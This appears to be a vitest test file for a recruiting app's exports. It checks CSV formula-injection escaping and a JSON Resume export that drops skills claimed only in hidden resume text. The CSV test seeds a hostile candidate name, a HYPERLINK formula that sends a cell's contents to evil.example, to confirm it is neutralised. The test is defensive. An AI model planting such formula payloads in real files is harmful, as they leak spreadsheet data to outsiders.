import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { safeCell } from '@core/exports/csv'
import type { ExportedFile } from '@shared/contract/exports'
import { createTempStudio } from '../../helpers/temp-studio'
import { recruiterCall, seedApplicant } from '../fairness/seed'
import { readCsv } from './read-csv'

type Studio = Awaited<ReturnType<typeof createTempStudio>>['studio']

let studio: Studio
let jobId: string

beforeEach(async () => {
  ;({ studio } = await createTempStudio({ startWorkers: false }))
  jobId = (await recruiterCall<{ id: string }>(studio, 'jobs.create', { title: 'Data / Platform' })).id
})
afterEach(() => studio.close())

describe('CSV injection', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1'])('prefixes %j with a single quote', (value) => {
    expect(safeCell(value)).toBe(`'${value}`)
  })

  it('leaves ordinary text and quotes inside a cell alone', () => {
    expect(safeCell('Ada "the first" Lovelace')).toBe('Ada "the first" Lovelace')
    expect(safeCell('a=b')).toBe('a=b')
    expect(safeCell(null)).toBe('')
  })

  it("neutralises a hostile candidate's cells in the pipeline CSV", async () => {
    await seedApplicant(studio, jobId, {
      name: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
      email: '@evil.example',
      status: 'shortlisted',
    })
    await seedApplicant(studio, jobId, { name: 'Grace, Hopper', status: 'new' })
    const file = await recruiterCall<ExportedFile>(studio, 'exports.pipelineCsv', { jobId })
    expect(file).toMatchObject({ fileName: 'Data-Platform-pipeline.csv', mediaType: 'text/csv' })
    const rows = readCsv(file.text)
    const names = rows.map((r) => r.Name)
    expect(names).toContain(`'=HYPERLINK("https://evil.example/?"&A1,"Click")`)
    expect(names).toContain('Grace, Hopper')
    const hostile = rows.find((r) => r.Name!.startsWith("'="))!
    expect(hostile).toMatchObject({ Email: "'@evil.example", Status: 'shortlisted', 'Screening score': '' })
    // No cell of the file starts a formula once parsed.
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/u)
  })
})

/** The JSON Resume v1.0.0 shape this export promises, strict so a stray field fails. */
const date = z.string().regex(/^[12]\d{3}(-[01]\d(-[0-3]\d)?)?$/u)
const jsonResumeShape = z
  .object({
    $schema: z.literal('https://raw.githubusercontent.com/jsonresume/resume-schema/v1.0.0/schema.json'),
    basics: z
      .object({
        name: z.string(),
        label: z.string().optional(),
        email: z.string().email().optional(),
        phone: z.string().optional(),
        url: z.string().url().optional(),
        summary: z.string().optional(),
      })
      .strict(),
    work: z.array(
      z
        .object({
          name: z.string().optional(),
          position: z.string(),
          startDate: date.optional(),
          endDate: date.optional(),
        })
        .strict(),
    ),
    education: z.array(z.object({ studyType: z.string() }).strict()),
    skills: z.array(z.object({ name: z.string() }).strict()),
    meta: z.object({ version: z.literal('v1.0.0'), lastModified: z.string() }).strict(),
  })
  .strict()

describe('JSON Resume', () => {
  it('exports what screening stored, in the v1 shape, leaving out skills only hidden text claims', async () => {
    const text = 'Ada Lovelace\nSummary\nEngineer who ships.\nSkills: TypeScript, SQL'
    const candidateId = await studio.db.transaction().execute(async (trx) => {
      const id = await studio.writer.insert(trx, 'candidates', {
        name: 'Ada Lovelace',
        email: 'ada@example.com',
        phone: '+44 20 7946 0000',
        email_key: 'ada@example.com',
        phone_key: '2079460000',
        links: JSON.stringify(['https://ada.example']),
        current_title: 'Staff engineer',
        total_years: 6,
        education_level: 'master',
        tags: '[]',
        current_file_id: 'file-ada',
      })
      const parsed = {
        sections: { summary: 'Engineer who ships.' },
        employment: [
          {
            title: 'Staff engineer',
            company: 'Analytical Engines',
            start: '2019-03',
            end: null,
            current: true,
            source: '',
          },
          { title: 'Engineer', company: null, start: 'spring', end: '2019-02', current: false, source: '' },
        ],
        skills: [
          { skillId: 'typescript', name: 'TypeScript', evidence: 'Skills: TypeScript, SQL', section: 'skills' },
          { skillId: 'sql', name: 'SQL', evidence: 'Skills: TypeScript, SQL', section: 'skills' },
          { skillId: 'kubernetes', name: 'Kubernetes', evidence: 'Kubernetes expert (white text)', section: 'other' },
        ],
      }
      await trx
        .insertInto('resume_documents')
        .values({
          file_id: 'file-ada',
          text,
          hidden_text: 'Kubernetes expert (white text)',
          parsed: JSON.stringify(parsed),
        })
        .execute()
      return id
    })
    const file = await recruiterCall<ExportedFile>(studio, 'exports.jsonResume', { candidateId })
    expect(file).toMatchObject({ fileName: 'Ada-Lovelace-resume.json', mediaType: 'application/json' })
    const resume = jsonResumeShape.parse(JSON.parse(file.text))
    expect(resume.basics).toEqual({
      name: 'Ada Lovelace',
      label: 'Staff engineer',
      email: 'ada@example.com',
      phone: '+44 20 7946 0000',
      url: 'https://ada.example',
      summary: 'Engineer who ships.',
    })
    expect(resume.work).toEqual([
      { name: 'Analytical Engines', position: 'Staff engineer', startDate: '2019-03' },
      { position: 'Engineer', endDate: '2019-02' },
    ])
    expect(resume.education).toEqual([{ studyType: "Master's degree" }])
    expect(resume.skills).toEqual([{ name: 'TypeScript' }, { name: 'SQL' }])
  })

  it('exports a candidate with no resume as basics alone, and refuses one that does not exist', async () => {
    const candidateId = await seedApplicant(studio, jobId, { name: 'Grace Hopper', status: 'new' })
    const resume = jsonResumeShape.parse(
      JSON.parse((await recruiterCall<ExportedFile>(studio, 'exports.jsonResume', { candidateId })).text),
    )
    expect(resume).toMatchObject({ basics: { name: 'Grace Hopper' }, work: [], skills: [] })
    const missing = await studio.dispatch('exports.jsonResume', { candidateId: 'nobody' }, { audience: 'recruiter' })
    expect(missing.ok || missing.error.code).toBe('not_found')
  })
})
